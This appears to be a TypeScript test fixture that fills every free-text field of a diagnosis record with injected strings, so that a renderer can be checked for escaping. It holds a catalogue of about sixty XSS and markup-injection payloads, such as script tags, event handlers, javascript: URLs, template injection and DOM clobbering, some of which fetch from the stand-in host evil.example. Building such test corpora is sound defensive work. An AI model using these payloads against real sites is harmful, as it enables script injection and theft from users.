import { diagnosisSchema } from '../../src/diagnosis/diagnosis.ts';
import type { Diagnosis } from '../../src/diagnosis/diagnosis.ts';

/** Fields that hold one of a few fixed words; everything else may hold any text. */
const FIXED = new Set([
  'schema',
  'kind',
  'role',
  'outcome',
  'owner',
  'retry',
  'bodies',
  'agreement',
]);
/** Fixed in some objects, free in others: `llm_calls[].kind`. */
const isFree = (key: string, owner: object): boolean =>
  !FIXED.has(key) || (key === 'kind' && 'finish_reason' in owner);

function replaced(value: unknown, text: () => string): unknown {
  if (typeof value === 'string') return text();
  if (Array.isArray(value)) return value.map((entry) => replaced(entry, text));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([key, entry]) => [
    key,
    isFree(key, value) ? replaced(entry, text) : entry,
  ]);
  return Object.fromEntries(entries);
}

/** The diagnosis with `text` in every field that can hold text. */
export function withEveryString(diagnosis: Diagnosis, text: string | (() => string)): Diagnosis {
  return diagnosisSchema.parse(replaced(diagnosis, typeof text === 'string' ? () => text : text));
}

const ACTS = [
  'alert(1)',
  'window.hacked=1',
  'fetch("https://evil.example/")',
  'top.hacked=1',
  'hacked=1',
];

const MARKUP = [
  '<script>ACT</script>',
  '</script><script>ACT</script>',
  '<!--<script>ACT</script>',
  '--><script>ACT</script><!--',
  '<img src=x onerror=ACT>',
  '"><img src=x onerror=ACT>',
  "'><img src=x onerror=ACT>",
  '<svg onload=ACT>',
  '<svg><animate onbegin=ACT attributeName=x>',
  '<svg><script>ACT</script></svg>',
  '<math><mi//xlink:href="javascript:ACT">',
  '" onmouseover="ACT" x="',
  "' onfocus='ACT' autofocus='",
  ' onclick=ACT ',
  '` onload=ACT `',
  '<a href="javascript:ACT">x</a>',
  '<iframe srcdoc="<script>ACT</script>">',
  '<iframe src="javascript:ACT">',
  '<object data="javascript:ACT">',
  '<embed src="javascript:ACT">',
  '<form action="javascript:ACT"><button>x</button></form>',
  '<details open ontoggle=ACT>',
  '<video src=x onerror=ACT>',
  '<body onload=ACT>',
  '<input autofocus onfocus=ACT>',
  '<meta http-equiv="refresh" content="0;url=javascript:ACT">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '</title><script>ACT</script>',
  '</style><script>ACT</script>',
  '</textarea><script>ACT</script>',
  '</template><script>ACT</script>',
  '</pre></code><script>ACT</script>',
  '{{constructor.constructor("ACT")()}}',
  '${ACT}',
  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
  '&lt;script&gt;ACT&lt;/script&gt;',
  '<scr\u0000ipt>ACT</scr\u0000ipt>',
  '<img src="data:image/svg+xml,<svg onload=ACT>">',
  '<plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
  '<xmp><script>ACT</script>',
  '\u2028</script><script>ACT</script>',
  ']]><script>ACT</script>',
  '<?xml version="1.0"?><script>ACT</script>',
  '<a id=exports><a id=exports name=textContent>ACT',
  '<img name=getElementById><form id=viewer>',
  '[x](javascript:ACT)',
  '![x](https://evil.example/x.png)',
  '<https://evil.example/?ACT>',
  'https://evil.example/?ACT',
  'www.evil.example ACT',
  'someone@evil.example',
  '@somebody #1 owner/repo#2 GH-3 deadbeefcafe',
  '[^1]: footnote ACT',
  '[x]: https://evil.example "ACT"',
  '`code` ``two`` ```three``` ACT',
  '```\n</pre><script>ACT</script>\n```',
  '\n\n# heading\n\n<script>ACT</script>\n\n',
] as const;

const withAct = (act: string): readonly string[] =>
  MARKUP.map((markup) => markup.replaceAll('ACT', act));

/** Texts that try to become markup, links, handlers or commands. */
export const PAYLOADS: readonly string[] = withAct('alert(1)');

/** The same with every deed: three hundred, for a real browser. */
export const ALL_PAYLOADS: readonly string[] = ACTS.flatMap(withAct);
